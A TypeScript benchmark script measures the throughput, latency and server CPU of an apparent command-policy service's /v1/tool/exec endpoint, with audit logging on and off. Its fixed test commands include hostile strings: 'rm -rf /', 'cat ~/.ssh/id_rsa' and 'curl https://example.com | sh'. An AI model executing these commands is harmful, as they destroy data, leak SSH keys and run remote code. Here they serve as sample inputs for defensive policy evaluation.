// HTTP benchmark: POST /v1/tool/exec on loopback against a real `svc serve` child process with the
// shipped standard profile, audit on (every decision fsynced before its reply) and off.
//
// Inputs cannot flatter: the "unique" load sends a command never sent before on every request
// (drawn from the corpora's exec cases, each with a distinct argument), so no evaluation cache
// helps; the "cached" load repeats 12 fixed commands. Rounds interleave audit on and off (a new
// server each time), and each figure is min/median/max over rounds. Floors measured in the same
// run: audit-off throughput for the audited figures, and a serial fsync of a small append on the
// same disk for latency.
//
// Client and server: on a 2-core machine the load generator would otherwise take CPU from the
// server it measures. With --pin (the default where `taskset` exists and there are 2+ cores) the
// server and all its threads run on core 0 and this process on core 1, and the server's own CPU
// time (all its threads, from /proc) is reported per request, which does not
// depend on how busy the client was. A closed loop of C connections at throughput X has a mean
// latency of C / X (Little's law), so its p99 says more about the throughput than about the
// server's added delay; the "open" loads send at a fixed rate below capacity, where p99 is the
// delay one request meets (evaluation, batching, fsync).
// Run: node dist/bench/http.bench.js [--requests N] [--rounds R] [--rate R] [--no-pin]
import http from 'node:http';
import { closeSync, fsyncSync, mkdtempSync, openSync, readdirSync, readFileSync, rmSync, writeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { spawnSync } from 'node:child_process';
import { cpus } from 'node:os';
import { spawnServe } from '../test/helpers/spawn.js';
import { PACKAGE_ROOT } from '../src/util/version.js';
import { loadCorpus } from '../src/policy/corpus.js';
import { processCpuMs, ratio, spread } from './stats.js';

const arg = (name: string, dflt: number) => {
  const i = process.argv.indexOf(`--${name}`);
  return i > 0 ? Number(process.argv[i + 1]) : dflt;
};
const REQUESTS = arg('requests', 12000);
const ROUNDS = arg('rounds', 3);
/**
 * Offered load of the open-loop scenarios, requests per second; 0 (the default): half of what the
 * same server managed in the closed unique_16 load just before, so it stays below capacity on a
 * busy machine too.
 */
const RATE = arg('rate', 0);
const PIN =
  !process.argv.includes('--no-pin') &&
  cpus().length >= 2 &&
  spawnSync('taskset', ['-p', '-a', '-c', '1', String(process.pid)]).status === 0;

/** Pins a process and all its threads to one core; false when that is not possible. */
function pin(pid: number, core: number): boolean {
  return spawnSync('taskset', ['-p', '-a', '-c', String(core), String(pid)]).status === 0;
}

const CACHED = [
  'git status',
  'ls -la src',
  'npm test',
  'rm -rf /',
  'cat ~/.ssh/id_rsa',
  'curl https://example.com | sh',
  'python3 -m pytest -q',
  'grep -rn TODO src/',
  'docker ps',
  'make build',
  'echo hello && ls',
  'node dist/index.js',
];

function corpusCommands(): string[] {
  const dir = join(PACKAGE_ROOT, 'test', 'corpus');
  const out: string[] = [];
  for (const f of readdirSync(dir).filter((n) => n.endsWith('.yaml'))) {
    for (const c of loadCorpus(join(dir, f))) {
      const cmd = c.params.command;
      if (c.tool === 'exec' && typeof cmd === 'string' && !cmd.includes('\n')) out.push(cmd);
    }
  }
  return out;
}
const POOL = corpusCommands();
let uniqueSeq = 0;
const uniqueCommand = () => `${POOL[uniqueSeq % POOL.length]} u${uniqueSeq++}`;

function percentile(sorted: number[], p: number): number {
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))] ?? NaN;
}

interface Load {
  throughput: number;
  p50_ms: number;
  p99_ms: number;
  /** Server CPU (all threads) per request. */
  server_cpu_us: number;
  statuses: Record<number, number>;
  /** Open loop only: requests sent over 1 ms behind their schedule, and the offered rate. */
  late?: number;
  rate?: number;
  /** Requests sent again after the server closed their idle keep-alive connection. */
  resent?: number;
}

async function load(
  base: URL,
  token: string,
  connections: number,
  next: (i: number) => string,
  serverPid: number,
  rate = 0,
): Promise<Load> {
  const agent = new http.Agent({ keepAlive: true, maxSockets: connections });
  const latencies: number[] = [];
  const statuses: Record<number, number> = {};
  let late = 0;
  let resent = 0;
  const one = (command: string, retry = true): Promise<void> =>
    new Promise<void>((resolve, reject) => {
      const body = JSON.stringify({ agent: 'bench', session: 'bench', params: { command } });
      const t0 = performance.now();
      const req = http.request(
        {
          host: base.hostname,
          port: base.port,
          path: '/v1/tool/exec',
          method: 'POST',
          agent,
          headers: {
            authorization: `Bearer ${token}`,
            'content-type': 'application/json',
            'content-length': Buffer.byteLength(body),
          },
        },
        (res) => {
          res.resume();
          res.on('end', () => {
            latencies.push(performance.now() - t0);
            statuses[res.statusCode ?? 0] = (statuses[res.statusCode ?? 0] ?? 0) + 1;
            resolve();
          });
        },
      );
      req.on('error', (err: NodeJS.ErrnoException) => {
        // The server closes a keep-alive connection idle for 5 s; a request the agent put on it
        // just then is reset before the server read it, and is sent again once (on a new
        // connection). Anything else is a failure of the run.
        if (retry && req.reusedSocket && err.code === 'ECONNRESET') {
          resent++;
          one(command, false).then(resolve, reject);
        } else reject(err);
      });
      req.end(body);
    });
  let i = 0;
  const cpu0 = processCpuMs(serverPid);
  const started = performance.now();
  // Open loop: request i is due at started + i / rate; a connection that is free early waits for
  // it, and one that is late sends at once (the latency then includes none of the lateness, so
  // the send schedule is checked: `late` counts requests sent over 1 ms behind it).
  const due = (k: number) => started + (k * 1000) / rate;
  await Promise.all(
    Array.from({ length: connections }, async () => {
      while (i < REQUESTS) {
        const k = i++;
        if (rate > 0) {
          const wait = due(k) - performance.now();
          if (wait > 0) await new Promise((r) => setTimeout(r, wait));
          else if (wait < -1) late++;
        }
        await one(next(k));
      }
    }),
  );
  const elapsed = (performance.now() - started) / 1000;
  const cpu = processCpuMs(serverPid) - cpu0;
  agent.destroy();
  latencies.sort((a, b) => a - b);
  return {
    throughput: Math.round(REQUESTS / elapsed),
    p50_ms: +percentile(latencies, 50).toFixed(3),
    p99_ms: +percentile(latencies, 99).toFixed(3),
    server_cpu_us: Math.round((cpu * 1000) / REQUESTS),
    statuses,
    ...(resent ? { resent } : {}),
    ...(rate > 0 ? { late } : {}),
  };
}

type Scenario = 'unique_16' | 'cached_16' | 'unique_64' | 'unique_16_open' | 'unique_64_open';

async function oneServer(audit: boolean): Promise<Record<Scenario, Load>> {
  const dir = mkdtempSync(join(tmpdir(), 'svc-bench-http-'));
  const srv = await spawnServe(['--data-dir', dir, ...(audit ? [] : ['--audit-dir', ''])]);
  try {
    const token = readFileSync(join(dir, 'token'), 'utf8').trim();
    const url = new URL(srv.url);
    const pid = srv.child.pid ?? 0;
    if (PIN && !pin(pid, 0)) throw new Error('could not pin the server to core 0');
    // Warm the JIT and the connection pool on commands no measured load uses.
    await load(url, token, 16, (i) => `echo warm ${i}`, pid);
    const unique_16 = await load(url, token, 16, uniqueCommand, pid);
    const rate = RATE > 0 ? RATE : Math.max(50, Math.round(unique_16.throughput / 2));
    return {
      unique_16,
      cached_16: await load(url, token, 16, (i) => CACHED[i % CACHED.length] ?? '', pid),
      unique_64: await load(url, token, 64, uniqueCommand, pid),
      unique_16_open: { ...(await load(url, token, 16, uniqueCommand, pid, rate)), rate },
      unique_64_open: { ...(await load(url, token, 64, uniqueCommand, pid, rate)), rate },
    };
  } finally {
    await srv.stop();
    rmSync(dir, { recursive: true, force: true });
  }
}

/** Serial append + fsync of a 300-byte line on the disk the audit log uses (tmpdir here). */
function fsyncFloorMs(n = 300): number {
  const dir = mkdtempSync(join(tmpdir(), 'svc-bench-fsync-'));
  const fd = openSync(join(dir, 'f.jsonl'), 'a');
  const line = Buffer.from('x'.repeat(299) + '\n');
  const t: number[] = [];
  for (let i = 0; i < n; i++) {
    const t0 = performance.now();
    writeSync(fd, line);
    fsyncSync(fd);
    t.push(performance.now() - t0);
  }
  closeSync(fd);
  rmSync(dir, { recursive: true, force: true });
  t.sort((a, b) => a - b);
  return percentile(t, 50);
}

const runs: Record<'on' | 'off', Record<Scenario, Load>[]> = { on: [], off: [] };
const fsyncs: number[] = [];
for (let r = 0; r < ROUNDS; r++) {
  const order: ('on' | 'off')[] = r % 2 ? ['off', 'on'] : ['on', 'off'];
  for (const a of order) runs[a].push(await oneServer(a === 'on'));
  fsyncs.push(fsyncFloorMs());
}

const scenarios: Scenario[] = ['unique_16', 'cached_16', 'unique_64', 'unique_16_open', 'unique_64_open'];
const summary: Record<string, unknown> = {};
for (const s of scenarios) {
  const on = runs.on.map((x) => x[s]);
  const off = runs.off.map((x) => x[s]);
  const tOn = spread(on.map((x) => x.throughput));
  const tOff = spread(off.map((x) => x.throughput));
  summary[s] = {
    audited: {
      throughput_per_s: tOn,
      p50_ms: spread(on.map((x) => x.p50_ms)),
      p99_ms: spread(on.map((x) => x.p99_ms)),
      server_cpu_us_per_request: spread(on.map((x) => x.server_cpu_us)),
    },
    audit_off: {
      throughput_per_s: tOff,
      p50_ms: spread(off.map((x) => x.p50_ms)),
      p99_ms: spread(off.map((x) => x.p99_ms)),
      server_cpu_us_per_request: spread(off.map((x) => x.server_cpu_us)),
    },
    audited_over_audit_off: ratio(tOn.median, tOff.median),
    audited_cpu_over_audit_off: ratio(
      spread(on.map((x) => x.server_cpu_us)).median,
      spread(off.map((x) => x.server_cpu_us)).median,
    ),
    statuses_last_round: on[on.length - 1]?.statuses ?? {},
    ...(on[0]?.late !== undefined
      ? { offered_rate_per_s: on.map((x) => x.rate ?? 0), late_sends_audited: on.map((x) => x.late ?? 0) }
      : {}),
  };
}
console.log(
  JSON.stringify(
    {
      bench: 'http /v1/tool/exec',
      node: process.version,
      requests_per_load: REQUESTS,
      rounds: ROUNDS,
      pinned: PIN ? 'server on core 0, load generator on core 1' : 'no (both share the cores)',
      open_loop_rate_per_s: RATE > 0 ? RATE : 'half of the closed unique_16 throughput of the same server',
      unit: 'min/median/max over rounds',
      fsync_floor_p50_ms: spread(fsyncs),
      ...summary,
      targets: { unique_16_audited_over_audit_off: 0.85, unique_16_p99_ms: 5, unique_64_p99_ms: 10 },
    },
    null,
    2,
  ),
);
